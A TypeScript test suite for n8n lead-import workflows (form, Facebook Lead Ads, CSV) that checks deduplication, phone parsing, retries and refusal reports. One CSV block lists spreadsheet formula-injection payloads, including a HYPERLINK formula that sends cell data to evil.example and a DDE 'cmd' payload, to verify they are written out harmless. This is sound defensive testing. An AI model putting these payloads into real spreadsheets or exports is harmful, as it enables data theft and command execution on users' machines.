/** The examples that make leads, run as they are; n8n's own nodes are stood in for. */
import type { IDataObject } from 'n8n-workflow';
import type { FaultRule } from '../../sandbox/index.cts';
import { useSandbox } from '../started.cts';
import { example } from '../examples.cts';
import {
	Conditions,
	dataTable,
	exampleEngine,
	outside,
	RemoveDuplicates,
	SetFields,
	standIn,
	type Row,
} from './examples.fixture.cts';
import { errorText } from './fixture.cts';

const sandbox = useSandbox({ clients: 5 });
beforeEach(() => {
	sandbox.data.leads.length = 0;
});

const sentLeads = () =>
	sandbox.requests
		.filter(({ operationId }) => operationId === 'lead.create')
		.map(({ body }) => body as IDataObject);

const byName = (leads: IDataObject[]) =>
	[...leads].sort((a, b) => String(a.name).localeCompare(String(b.name)));

describe('leads from a form', () => {
	const submission = (given: IDataObject) => ({
		'Full Name': 'Ann Lee',
		Email: '',
		Phone: '',
		Message: '',
		...given,
	});

	/** Every submission is an execution; all of them have the same data table. */
	function form() {
		const tables = new Map<string, Row[]>();
		const engine = exampleEngine(sandbox, { set: SetFields, dataTable: dataTable(tables) });
		const submit = async (given: IDataObject) =>
			await engine.run({
				workflow: example('leads-from-a-form.json'),
				items: [submission(given)],
			});
		const known = () => tables.get('leads-from-a-form')!;
		return { engine, submit, known };
	}

	const refuse = (action: FaultRule['action'], when?: FaultRule['when']) => {
		sandbox.faults.rules = [{ match: { operationId: 'lead.create' }, action, when }];
	};

	test('reach the CRM as they were typed, without blanks around', async () => {
		const { submit } = form();
		const result = await submit({
			Email: ' Ann@example.com ',
			Phone: '+65 8123 4567',
			Message: 'Hello\nthere',
		});
		expect(result.error).toBeUndefined();
		expect(sentLeads()).toEqual([
			{
				name: 'Ann Lee',
				email: 'Ann@example.com',
				phone: { country_code: '65', number: '81234567' },
				comment: 'Hello\nthere',
			},
		]);
		expect(result.json('Get Many Clients')).toHaveLength(5);
	});

	test('are made once for the same email, or else the same phone, whatever their spelling', async () => {
		const { submit, known } = form();
		await submit({ Email: 'ann@example.com', Phone: '+6581234567' });
		const again = await submit({ Email: ' ANN@example.com', Phone: '+44 7700 900123' });
		expect([again.status, again.runs('Create Lead')]).toEqual(['success', []]);
		await submit({ Phone: '+65 8123-4567' });
		await submit({ Phone: '+65 (8123) 4567' });
		expect(sentLeads()).toHaveLength(2);
		expect(known().map(({ person }) => person)).toEqual(['ann@example.com', '6581234567']);
	});

	test('are made again when 24 hours are over', async () => {
		const { submit, known } = form();
		await submit({ Email: 'ann@example.com' });
		known()[0].createdAt -= 23.9 * 3_600_000;
		await submit({ Email: 'ann@example.com' });
		expect(sentLeads()).toHaveLength(1);
		known()[0].createdAt -= 0.2 * 3_600_000;
		await submit({ Email: 'ann@example.com' });
		expect(sentLeads()).toHaveLength(2);
		expect(known()).toHaveLength(1);
	});

	test('that nobody can be reached by stop the execution each time', async () => {
		const { submit } = form();
		for (const result of [await submit({}), await submit({})]) {
			expect(errorText(result)).toMatch(/'Email' or 'Phone Number' must be given/);
		}
		expect(sentLeads()).toEqual([]);
	});

	test('that the CRM refused are not remembered: they go in when they are sent again', async () => {
		refuse({ status: 403 });
		const { submit, known } = form();
		expect((await submit({ Email: 'ann@example.com' })).status).toBe('error');
		expect([sandbox.data.leads, known()]).toEqual([[], []]);
		expect((await submit({ Email: 'ann@example.com' })).status).toBe('success');
		expect(sandbox.data.leads).toMatchObject([{ email: 'ann@example.com' }]);
	});

	test('of which nobody knows whether they are in the CRM are not remembered, nor sent by Retry', async () => {
		refuse('cut', 'after');
		const { engine, submit, known } = form();
		const lost = await submit({ Email: 'ann@example.com' });
		expect(errorText(lost)).toMatch(/not known whether/);
		expect(errorText(await engine.retry(lost))).toMatch(/not known whether[^]*Look in the CRM/);
		expect([sandbox.data.leads.length, known()]).toEqual([1, []]);
	});

	test('that the CRM did not take go in by Retry', async () => {
		refuse({ status: 403 });
		const { engine, submit, known } = form();
		const failed = await submit({ Email: 'ann@example.com' });
		expect(failed.status).toBe('error');
		const retried = await engine.retry(failed);
		expect(retried.error).toBeUndefined();
		expect(sandbox.data.leads).toMatchObject([{ email: 'ann@example.com' }]);
		expect(known()).toMatchObject([{ person: 'ann@example.com' }]);
	});

	test('cost the CRM one request, and one for 5 clients', async () => {
		const { submit } = form();
		await submit({ Email: 'ann@example.com' });
		expect(sandbox.requests.map(({ operationId, query }) => [operationId, query?.limit])).toEqual([
			['lead.create', undefined],
			['client.getMany', '5'],
		]);
	});
});

describe('leads from Facebook', () => {
	const lead = (id: string, data: IDataObject) => ({
		id,
		data,
		form: { id: 'f1', name: 'Spring form' },
		ad: { id: 'a1', name: 'Spring ad' },
		created_time: '2026-03-01T10:00:00+0000',
	});

	function facebook() {
		const mails: IDataObject[] = [];
		const tables = new Map<string, Row[]>();
		const engine = exampleEngine(sandbox, {
			set: SetFields,
			removeDuplicates: RemoveDuplicates,
			dataTable: dataTable(tables),
			emailSend: outside(['subject', 'text'], mails),
		});
		const deliver = async (...items: IDataObject[]) =>
			await engine.run({ workflow: example('leads-from-facebook-lead-ads.json'), items });
		const known = () => tables.get('leads-from-facebook')!.map(({ lead_id }) => lead_id);
		return { deliver, mails, known };
	}

	test('become flat: name in parts, phone number in one piece, answers as a comment', async () => {
		const { deliver, mails } = facebook();
		const result = await deliver(
			lead('1', { full_name: 'Ann Lee', email: 'ann@example.com', budget: '1000' }),
			lead('2', { first_name: 'Bo', last_name: 'Ek', phone_number: '+44 7700 900123' }),
			lead('3', { full_name: 'Cy', phone_number: 'p:+35799123456' }),
			lead('4', { full_name: 'Di', phone_number: '91234567' }),
		);
		expect(result.error).toBeUndefined();
		const sent = byName(sentLeads());
		expect(sent).toMatchObject([
			{ name: 'Ann Lee', email: 'ann@example.com' },
			{ name: 'Bo Ek', phone: { country_code: '44', number: '7700900123' } },
			{ name: 'Cy', phone: { country_code: '357', number: '99123456' } },
		]);
		expect(sent[0].comment).toBe(
			'Facebook lead 1 of 2026-03-01T10:00:00+0000\nForm: Spring form\nAd: Spring ad\nbudget: 1000',
		);
		// Without a country code nobody knows whose number it is: a person has to look.
		expect(mails).toHaveLength(1);
		expect(String(mails[0].text)).toContain("'Phone' must begin with + and the country code");
	});

	test.each(['1', '7', '20', '27', '34', '40', '49', '65', '81', '98', '371', '421', '852', '971'])(
		'have their country code +%s taken off',
		async (code) => {
			const { deliver } = facebook();
			await deliver(lead('1', { full_name: 'Ann Lee', phone_number: `+${code}5550100` }));
			expect(sentLeads()).toMatchObject([{ phone: { country_code: code, number: '5550100' } }]);
		},
	);

	test('are made once: delivered again, or twice in a delivery', async () => {
		const { deliver } = facebook();
		const ann = { full_name: 'Ann Lee', email: 'ann@example.com', phone_number: '+6581234567' };
		await deliver(lead('1', ann), lead('2', { ...ann, email: 'ANN@example.com' }));
		await deliver(lead('1', ann));
		expect(sentLeads()).toHaveLength(1);
		await deliver(lead('3', ann));
		expect(sentLeads()).toHaveLength(2);
	});

	test('that are refused go out by email with all there is, the others go in', async () => {
		const { deliver, mails, known } = facebook();
		const result = await deliver(
			lead('1', { full_name: 'No Contact' }),
			lead('2', { full_name: 'Ann Lee', email: 'ann@example.com' }),
			lead('3', { full_name: 'Also None', budget: '1000' }),
		);
		expect(result.error).toBeUndefined();
		expect(sandbox.data.leads).toMatchObject([{ name: 'Ann Lee' }]);
		expect(mails).toEqual([
			{
				subject: 'A Facebook lead is not in the CRM: No Contact',
				text: expect.stringMatching(/must be given[^]*Name: No Contact[^]*Facebook lead 1 of/),
			},
			{
				subject: 'A Facebook lead is not in the CRM: Also None',
				text: expect.stringMatching(/must be given[^]*Name: Also None[^]*budget: 1000/),
			},
		]);
		expect(known()).toEqual(['2']);
	});

	test('that the CRM refused go in when they are delivered again', async () => {
		const { deliver, mails } = facebook();
		const ann = lead('1', { full_name: 'Ann Lee', email: 'ann@example.com' });
		sandbox.faults.rules = [{ match: { operationId: 'lead.create' }, action: { status: 403 } }];
		for (const _ of [1, 2, 3]) await deliver(ann);
		expect(mails).toHaveLength(1);
		expect(sandbox.data.leads).toMatchObject([{ name: 'Ann Lee' }]);
	});
});

describe('leads from a CSV', () => {
	/** The form gives the file's rows here, since there is no file. */
	const ReadCsv = standIn([], (context) => {
		const rows = context.getInputData()[0].json.rows as IDataObject[];
		return [rows.map((json) => ({ json, pairedItem: { item: 0 } }))];
	});

	const WriteReport = standIn([], (context) => [
		[{ json: { report: context.getInputData().map(({ json }) => json) }, pairedItem: { item: 0 } }],
	]);

	const Append = standIn(
		[],
		(context) => [[...context.getInputData(0), ...context.getInputData(1)]],
		{ inputs: 2 },
	);

	const row = (given: IDataObject) => ({
		name: '',
		email: '',
		phone: '',
		comment: '',
		...given,
	});

	function upload() {
		const pages: IDataObject[] = [];
		const engine = exampleEngine(sandbox, {
			set: SetFields,
			if: Conditions,
			removeDuplicates: RemoveDuplicates,
			dataTable: dataTable(new Map()),
			extractFromFile: ReadCsv,
			convertToFile: WriteReport,
			merge: Append,
			form: outside(['completionTitle', 'completionMessage'], pages),
		});
		return async (rows: IDataObject[]) => {
			pages.length = 0;
			const result = await engine.run({
				workflow: example('leads-from-a-csv.json'),
				items: [{ rows: rows.map((one) => ('Name ' in one ? one : row(one))) }],
			});
			expect(result.error).toBeUndefined();
			return { report: result.json('Write Report')[0]?.report, pages: [...pages] };
		};
	}

	const ANN = { name: 'Ann Lee', email: 'ann@example.com', comment: 'From the fair' };
	const BO = { name: 'Bo', phone: '+65 8123 4567' };
	const NOBODY = { name: 'Nobody' };
	const NAMELESS = { email: 'x@example.com' };

	test('go in, and what is refused is reported with the reason', async () => {
		const { report, pages } = await upload()([
			NOBODY,
			ANN,
			{ ...ANN, comment: 'Twice' },
			{ ...NOBODY, name: 'Nobody either' },
			BO,
			NAMELESS,
		]);
		expect(byName(sentLeads())).toEqual([
			ANN,
			{ name: 'Bo', phone: { country_code: '65', number: '81234567' } },
		]);
		expect(report).toEqual([
			{ ...row(NOBODY), message: expect.stringMatching(/'Email' or 'Phone Number' must be given/) },
			{ ...row({ name: 'Nobody either' }), message: expect.stringMatching(/must be given/) },
			{ ...row(NAMELESS), message: expect.stringMatching(/'Name' is empty/) },
		]);
		expect(pages).toEqual([
			{
				completionTitle: '3 of 6 rows were refused',
				completionMessage: expect.stringMatching(/went in: 2\nRefused: 3\n.*repeats: 1/),
			},
		]);
	});

	test('are counted on one page when all go in', async () => {
		const { report, pages } = await upload()([ANN, BO]);
		expect(report).toBeUndefined();
		expect(pages).toEqual([
			{
				completionTitle: 'Leads that went in: 2',
				completionMessage: 'Refused: 0\nLeft out as repeats: 0',
			},
		]);
	});

	test('are reported when all are refused by the CRM', async () => {
		sandbox.faults.rules = [{ times: Infinity, action: { status: 403 } }];
		const { report, pages } = await upload()([ANN, BO]);
		expect(report).toMatchObject([{ name: 'Ann Lee' }, { name: 'Bo' }]);
		expect(pages).toMatchObject([{ completionTitle: '2 of 2 rows were refused' }]);
	});

	test('are left out when the file comes twice', async () => {
		const send = upload();
		await send([ANN, BO]);
		expect((await send([ANN, BO])).pages).toMatchObject([{ completionTitle: 'Nothing was sent' }]);
		expect(sentLeads()).toHaveLength(2);
		const { pages } = await send([ANN, { name: 'Cy', email: 'cy@example.com' }]);
		expect(pages).toMatchObject([{ completionMessage: 'Refused: 0\nLeft out as repeats: 1' }]);
		expect(sentLeads()).toHaveLength(3);
	});

	test('that the CRM refused go in when the report is uploaded', async () => {
		const send = upload();
		sandbox.faults.rules = [{ match: { body: 'Ann' }, action: { status: 403 } }];
		const { report } = await send([ANN, BO]);
		expect(report).toMatchObject([{ name: 'Ann Lee' }]);
		for (const titled of ['Leads that went in: 1', 'Nothing was sent']) {
			const { pages } = await send(report as IDataObject[]);
			expect(pages).toMatchObject([{ completionTitle: titled }]);
		}
		expect(sandbox.data.leads.map(({ name }) => name).sort()).toEqual(['Ann Lee', 'Bo']);
	});

	test('are known by columns in any case, with blanks around; lost letters are reported', async () => {
		const { report } = await upload()([
			{ 'Name ': 'Ann Lee', ' EMAIL': 'ann@example.com', Phone: '+65 8123 4567' },
			{ 'Name ': 'Zo\ufffd', ' EMAIL': 'zoe@example.com' },
		]);
		const phone = { country_code: '65', number: '81234567' };
		expect(sentLeads()).toEqual([{ name: 'Ann Lee', email: 'ann@example.com', phone }]);
		expect(report).toMatchObject([
			{ email: 'zoe@example.com', message: expect.stringContaining('a file was not UTF-8') },
		]);
	});

	describe('with cells that a spreadsheet would run', () => {
		/** Fields of a line as a spreadsheet sees them, whichever separator it goes by. */
		const cellsOf = (line: string) =>
			[',', ';', '\t', '|'].flatMap((separator) =>
				line.split(/\r?\n/).flatMap((part) => part.split(separator)),
			);
		const isRun = (cell: string) => /^[\s"]*[=+\-@＝＋－＠]/.test(cell);

		const FORMULAS = [
			'=HYPERLINK("https://evil.example/?"&A1,"Click")',
			'+1+1',
			'@SUM(1)',
			'-2+3',
			"=cmd|' /C calc'!A0",
			' =1+1',
			'"=1+1',
			"'=1+1",
			"''=1+1",
			'Bob;=1+1',
			'Bob,"=1+1"',
			'Bob\n=1+1',
			'Bob\t+1+1',
			'＝1+1',
		];

		test.each(FORMULAS)('%j is written harmless, and read back as it was', async (formula) => {
			const send = upload();
			const given = [
				{ ...ANN, name: formula, comment: formula },
				{ name: 'x', phone: formula },
			];
			sandbox.faults.rules = [{ times: Infinity, action: { status: 403 } }];
			const { report } = await send(given);
			const written = report as IDataObject[];
			expect(written.length).toBeGreaterThan(0);
			for (const cells of written) {
				for (const cell of Object.values(cells)) {
					expect(cellsOf(String(cell)).filter(isRun)).toEqual([]);
				}
			}
			sandbox.reset();

			// The report goes in as it is, and the CRM gets what the first file held.
			await send(written.slice(0, 1));
			const [lead] = sentLeads();
			const unharmed = formula.trim().replace(/^'(?='*[=+\-@])/, '');
			expect(lead).toMatchObject({ name: unharmed, comment: unharmed });
		});

		test('of a megabyte take no time', async () => {
			const send = upload();
			for (const cell of ['\t', ' ', ';', "'", '"', '; ', '\n', '='].map(
				(one) => `x${one.repeat(1_000_000 / one.length)}y`,
			)) {
				sandbox.faults.rules = [{ times: Infinity, action: { status: 403 } }];
				const began = performance.now();
				await send([{ ...ANN, comment: cell }]);
				expect(performance.now() - began).toBeLessThan(3000);
			}
		});
	});

	test('end with a page that says so when the file has no rows', async () => {
		const { pages } = await upload()([]);
		expect(pages).toMatchObject([{ completionTitle: 'Nothing was sent' }]);
	});
});
